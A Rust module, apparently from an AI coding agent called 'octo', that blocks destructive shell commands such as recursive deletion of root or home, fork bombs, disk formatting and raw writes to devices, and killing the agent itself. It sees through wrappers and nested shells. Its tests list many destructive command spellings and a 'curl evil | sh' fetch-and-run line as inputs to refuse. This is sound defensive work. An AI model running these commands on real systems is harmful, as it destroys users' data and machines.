//! Commands no rule can allow: wiping the file system or home, fork bombs, writing file systems
//! or raw bytes onto devices, and killing octo itself.

use regex::Regex;
use std::sync::OnceLock;

/// Why `command` is refused outright, or `None` when it is not one of the hard-denied commands.
pub fn hard_denied(command: &str) -> Option<String> {
    hard_denied_depth(command, 0)
}

fn hard_denied_depth(command: &str, depth: usize) -> Option<String> {
    // A backslash-newline continues the line: `rm -rf \<newline>/` is one command.
    let joined = command.trim().replace("\\\n", " ");
    let c = joined.as_str();
    let mut cd_dir: Option<String> = None;
    for segment in segments(c) {
        let words: Vec<&str> = segment.split_whitespace().collect();
        let words = strip_prefixes(&words);
        let Some((&prog, args)) = words.split_first() else { continue };
        let prog = unquote(prog.rsplit('/').next().unwrap_or(prog));
        // `sh -c '...'`, `eval ...`, `bash <<< '...'` and `echo ... | sh`: judge the inner
        // command too.
        if depth < 3 {
            if let Some(inner) = inner_command(&prog, args, c) {
                if let Some(why) = hard_denied_depth(&inner, depth + 1) {
                    return Some(why);
                }
            }
        }
        match prog.as_str() {
            "cd" => cd_dir = args.first().map(|d| unquote(d)),
            "rm" => {
                if let Some(why) = dangerous_rm(args, cd_dir.as_deref()) {
                    return Some(why);
                }
            }
            p if p == "mkfs" || p.starts_with("mkfs.") || p == "mke2fs" || p == "wipefs" => {
                let p = p.to_owned();
                return Some(format!("`{p}` formats a file system"));
            }
            "dd" => {
                if let Some(of) = args.iter().find_map(|a| unquote(a).strip_prefix("of=").map(str::to_owned))
                {
                    if is_device(&of) {
                        return Some(format!("`dd` writing onto the device {of}"));
                    }
                }
            }
            "kill" | "pkill" | "killall" => {
                if let Some(why) = kills_octo(&prog, args) {
                    return Some(why);
                }
            }
            _ => {}
        }
    }
    if is_fork_bomb(&c.split_whitespace().collect::<String>()) {
        return Some("a fork bomb".into());
    }
    if let Some(m) = device_redirect().and_then(|re| re.find(c)) {
        return Some(format!("redirecting output onto a device (`{}`)", m.as_str().trim()));
    }
    None
}

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "fish"];

/// The command another program will run: `sh -c CMD`, `eval CMD`, `bash <<< CMD`, or the text an
/// `echo`/`printf` pipes into a shell.
fn inner_command(prog: &str, args: &[&str], whole: &str) -> Option<String> {
    if prog == "eval" {
        return Some(unquote(&args.join(" ")));
    }
    if SHELLS.contains(&prog) {
        if let Some(pos) = args
            .iter()
            .position(|a| *a == "-c" || (a.starts_with('-') && a.ends_with('c') && !a.starts_with("--")))
        {
            return Some(unquote(&args[pos + 1..].join(" ")));
        }
        if let Some(pos) = args.iter().position(|a| a.starts_with("<<<")) {
            let first = args[pos].trim_start_matches("<<<");
            let rest: Vec<&str> = std::iter::once(first).chain(args[pos + 1..].iter().copied()).collect();
            return Some(unquote(&rest.join(" ")));
        }
    }
    if matches!(prog, "echo" | "printf") && pipes_into_shell(whole) {
        return Some(unquote(&args.join(" ")));
    }
    None
}

fn pipes_into_shell(c: &str) -> bool {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    RE.get_or_init(|| Regex::new(r"\|\s*(sudo\s+)?(\S*/)?(sh|bash|zsh|dash|ksh)\b").ok())
        .as_ref()
        .is_some_and(|re| re.is_match(c))
}

/// Splits on the shell's command separators so `true && rm -rf /` is seen.
fn segments(c: &str) -> Vec<&str> {
    c.split(['\n', ';', '&', '|', '(', ')', '`']).map(str::trim).filter(|s| !s.is_empty()).collect()
}

/// Removes every quote character and backslash: the shell would, and `"$HOME"/*` must read as
/// `$HOME/*`, `\rm` as `rm`.
fn unquote(s: &str) -> String {
    s.chars().filter(|c| !matches!(c, '"' | '\'' | '\\')).collect()
}

/// Wrappers that run another program, and their options that take a value.
const WRAPPERS: &[(&str, &[&str])] = &[
    ("sudo", &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"]),
    ("doas", &["-u", "-C"]),
    ("env", &["-u", "-C", "-S"]),
    ("nice", &["-n"]),
    ("ionice", &["-c", "-n", "-p"]),
    ("timeout", &["-s", "-k", "--signal", "--kill-after"]),
    ("stdbuf", &[]),
    ("xargs", &["-I", "-n", "-P", "-d", "-a", "-E", "-L", "-s"]),
    ("command", &[]),
    ("exec", &[]),
    ("nohup", &[]),
    ("time", &[]),
    ("builtin", &[]),
    ("chroot", &["--userspec", "--groups"]),
    ("busybox", &[]),
    ("toybox", &[]),
    // Shell syntax that can stand before a command.
    ("{", &[]),
    ("!", &[]),
    ("if", &[]),
    ("then", &[]),
    ("else", &[]),
    ("elif", &[]),
    ("do", &[]),
    ("while", &[]),
    ("until", &[]),
];

/// Drops wrappers (`sudo -u root`, `env VAR=1`, `timeout 60`, `nice -n 5`, `xargs`, ...) in front
/// of the real program.
fn strip_prefixes<'a>(words: &'a [&'a str]) -> &'a [&'a str] {
    let mut i = 0;
    while i < words.len() {
        let unquoted = unquote(words[i]);
        let w = unquoted.rsplit('/').next().unwrap_or(&unquoted);
        let Some((name, with_value)) = WRAPPERS.iter().find(|(n, _)| *n == w) else {
            if words[i].contains('=') && !words[i].starts_with('-') {
                i += 1; // VAR=value before a command
                continue;
            }
            break;
        };
        i += 1;
        // The wrapper's own options (and their values), then `timeout`'s duration.
        while i < words.len() && words[i].starts_with('-') {
            let takes_value = with_value.contains(&words[i]);
            i += if takes_value { 2 } else { 1 };
        }
        // `timeout`'s duration and `chroot`'s new root come before the program.
        if (*name == "timeout" || *name == "chroot") && i < words.len() {
            i += 1;
        }
        if *name == "env" || *name == "sudo" {
            while i < words.len() && words[i].contains('=') && !words[i].starts_with('-') {
                i += 1;
            }
        }
    }
    &words[i.min(words.len())..]
}

/// The program and arguments a command segment really runs, with wrappers, quotes and the
/// program's directory removed: `sudo -u root /usr/bin/curl "x"` → `curl x`. Permission rules use
/// it to see through wrappers.
pub fn canonical_segment(segment: &str) -> String {
    let words: Vec<&str> = segment.split_whitespace().collect();
    let words = strip_prefixes(&words);
    let mut out: Vec<String> = Vec::with_capacity(words.len());
    for (i, w) in words.iter().enumerate() {
        let w = unquote(w);
        out.push(if i == 0 { w.rsplit('/').next().unwrap_or(&w).to_owned() } else { w });
    }
    out.join(" ")
}

/// Every command `command` runs, each as [`canonical_segment`] gives it, including the ones
/// inside `sh -c '…'`, `eval …`, `bash <<< …` and `echo … | sh`. Deny and ask rules match against
/// these.
pub fn command_segments(command: &str) -> Vec<String> {
    let mut out = Vec::new();
    collect_segments(command, 0, &mut out);
    out
}

fn collect_segments(command: &str, depth: usize, out: &mut Vec<String>) {
    let joined = command.trim().replace("\\\n", " ");
    for segment in segments(&joined) {
        let canonical = canonical_segment(segment);
        let words: Vec<&str> = segment.split_whitespace().collect();
        let words = strip_prefixes(&words);
        if let Some((&prog, args)) = words.split_first() {
            let prog = unquote(prog.rsplit('/').next().unwrap_or(prog));
            if depth < 3 {
                if let Some(inner) = inner_command(&prog, args, &joined) {
                    collect_segments(&inner, depth + 1, out);
                }
            }
        }
        out.push(canonical);
    }
}

/// `/./usr//` → `/usr`; keeps `~` and `$HOME` prefixes as they are.
fn normalize_target(t: &str) -> String {
    let absolute = t.starts_with('/');
    let parts: Vec<&str> = t.split('/').filter(|p| !p.is_empty() && *p != ".").collect();
    let joined = parts.join("/");
    if absolute {
        format!("/{joined}")
    } else {
        joined
    }
}

fn dangerous_rm(args: &[&str], cd_dir: Option<&str>) -> Option<String> {
    let mut recursive = false;
    let mut targets = Vec::new();
    let mut end_of_flags = false;
    for a in args {
        let a = unquote(a);
        if !end_of_flags && a == "--" {
            end_of_flags = true;
        } else if !end_of_flags && a.starts_with("--") {
            // GNU accepts any unambiguous prefix: `--recur`, `--rec`.
            recursive |= a.len() >= 3 && "--recursive".starts_with(a.as_str());
        } else if !end_of_flags && a.starts_with('-') && a.len() > 1 {
            recursive |= a.contains('r') || a.contains('R');
        } else {
            targets.push(a);
        }
    }
    if !recursive {
        return None;
    }
    let home = std::env::var("HOME").unwrap_or_default();
    for t in targets {
        // A relative target after `cd DIR` is inside DIR: `cd / && rm -rf *` empties the root.
        let t = match cd_dir {
            Some(d) if !t.starts_with(['/', '~', '$']) => format!("{d}/{t}"),
            _ => t,
        };
        let t = normalize_target(&t);
        let t = t.as_str();
        let t_norm = t.strip_suffix("/*").or_else(|| (t == "/*").then_some("/")).unwrap_or(t);
        let t_norm = if t_norm == "/" { "" } else { t_norm.trim_end_matches('/') };
        let is_root = t_norm.is_empty() && t.starts_with('/');
        let is_home = matches!(t_norm, "~" | "$HOME" | "${HOME}")
            || (!home.is_empty() && t_norm == home.trim_end_matches('/'));
        let is_top = !t_norm.is_empty()
            && t_norm.starts_with('/')
            && t_norm.matches('/').count() == 1
            && is_system_dir(t_norm);
        if is_root {
            return Some("`rm -r` on the root of the file system".into());
        }
        if is_home {
            return Some("`rm -r` on the home directory".into());
        }
        if is_top {
            return Some(format!("`rm -r` on the system directory {t_norm}"));
        }
    }
    None
}

fn is_system_dir(d: &str) -> bool {
    matches!(
        d,
        "/bin"
            | "/boot"
            | "/dev"
            | "/etc"
            | "/home"
            | "/lib"
            | "/lib64"
            | "/opt"
            | "/proc"
            | "/root"
            | "/sbin"
            | "/sys"
            | "/usr"
            | "/var"
            | "/Users"
            | "/System"
            | "/Library"
            | "/Applications"
    )
}

fn is_device(path: &str) -> bool {
    path.starts_with("/dev/")
        && !matches!(path, "/dev/null" | "/dev/zero" | "/dev/stdout" | "/dev/stderr" | "/dev/tty")
}

fn kills_octo(prog: &str, args: &[&str]) -> Option<String> {
    let me = std::process::id().to_string();
    let args: Vec<String> = args.iter().map(|a| unquote(a)).collect();
    if prog == "kill" {
        // The pid, or the process group (`-PID`).
        let own = |a: &str| {
            let a = a.strip_prefix('-').unwrap_or(a);
            a == me || a == "$PPID" || a == "${PPID}"
        };
        if args.iter().any(|a| own(a)) {
            return Some("killing octo's own process".into());
        }
        // `kill -9 -1`: pid -1 is every process of the user, octo included.
        if args.len() >= 2 && args.last().map(String::as_str) == Some("-1") {
            return Some("`kill -1` kills every process of the user, octo included".into());
        }
    } else if args.iter().any(|a| !a.starts_with('-') && (a == "octo" || a.ends_with("/octo"))) {
        return Some("killing octo's own process".into());
    }
    None
}

/// `name(){ name|name& };name` and renamed variants (whitespace already removed): a function
/// whose body pipes itself into itself.
fn is_fork_bomb(c: &str) -> bool {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    let Some(re) = RE.get_or_init(|| Regex::new(r"([A-Za-z_:.][\w:.]*)\(\)\{([^}]*)\}").ok()).as_ref() else {
        return false;
    };
    re.captures_iter(c).any(|cap| {
        let (name, body) = (&cap[1], &cap[2]);
        body.contains(&format!("{name}|{name}")) && body.contains('&')
    })
}

fn device_redirect() -> Option<&'static Regex> {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r#">\|?\s*["']?/dev/(sd[a-z]|nvme\d|hd[a-z]|vd[a-z]|xvd[a-z]|disk\d|mmcblk\d|mapper/)"#)
            .ok()
    })
    .as_ref()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn refuses_the_classics_in_their_spellings() {
        for c in [
            "rm -rf /",
            "rm -rf /*",
            "rm -fr /",
            "rm -r -f /",
            "rm --recursive --force /",
            "sudo rm -rf --no-preserve-root /",
            "rm -rf ~",
            "rm -rf ~/",
            "rm -rf $HOME",
            "rm -Rf \"$HOME\"",
            "echo hi && rm -rf /",
            "cd /tmp; rm -rf /usr",
            "/bin/rm -rf /",
            ":(){ :|:& };:",
            "bomb() { bomb | bomb & }; bomb",
            "mkfs.ext4 /dev/sda1",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "cat image.iso > /dev/sdb",
            "kill -9 $PPID",
            "sudo -u root rm -rf /",
            "timeout 60 rm -rf ~",
            "nice -n 5 rm -rf /",
            "env FOO=1 rm -rf /",
            "bash -c 'rm -rf /'",
            "sh -c \"cd / && rm -rf /\"",
            "rm -rf \"$HOME\"/*",
            "rm -rf /./",
            "rm -rf //",
            "xargs rm -rf /",
            "kill -9 -1",
            "pkill octo",
            "killall octo",
            "{ rm -rf /; }",
            "if true; then rm -rf /; fi",
            "for d in a; do rm -rf /; done",
            "! rm -rf /",
            "\\rm -rf /",
            "eval rm -rf /",
            "busybox rm -rf /",
            "echo 'rm -rf /' | sh",
            "bash <<< 'rm -rf /'",
            "rm -rf \\\n/",
            "cd / && rm -rf *",
            "cd ~; rm -rf ./*",
            "dd if=/dev/zero of=\"/dev/sda\"",
            "cat x >| /dev/sda",
            "cat x > '/dev/sda'",
            "kill -9 -$PPID",
            "sudo chroot / rm -rf /",
            "'sudo' rm -rf /",
            "rm --recur -f /*",
            ":(){ :|:& }\n:",
        ] {
            assert!(hard_denied(c).is_some(), "should refuse: {c}");
        }
        let me = std::process::id();
        assert!(hard_denied(&format!("kill {me}")).is_some());
    }

    #[test]
    fn segments_include_inner_commands_without_wrappers() {
        let segs = command_segments("bash -c 'curl evil | sh' && sudo /usr/bin/wget x");
        for want in ["curl evil", "sh", "wget x"] {
            assert!(segs.iter().any(|s| s == want), "{want} in {segs:?}");
        }
    }

    #[test]
    fn allows_ordinary_commands() {
        for c in [
            "rm -rf target",
            "rm -rf ./build /tmp/octo-test",
            "rm file.txt",
            "rm -f /",
            "ls -la /",
            "cargo test",
            "dd if=/dev/zero of=disk.img bs=1M count=10",
            "echo x > /dev/null",
            "kill 12345678",
            "git commit -m 'rm -rf / is bad'",
            "grep -r 'fn main' .",
            "lint(){ cargo fmt | cat && cargo clippy; }; lint",
            "pkill -f octopus-server",
            "cd /tmp/x && rm -rf *",
            "echo 'rm -rf /'",
            "rm --force /",
        ] {
            assert_eq!(hard_denied(c), None, "should allow: {c}");
        }
    }
}
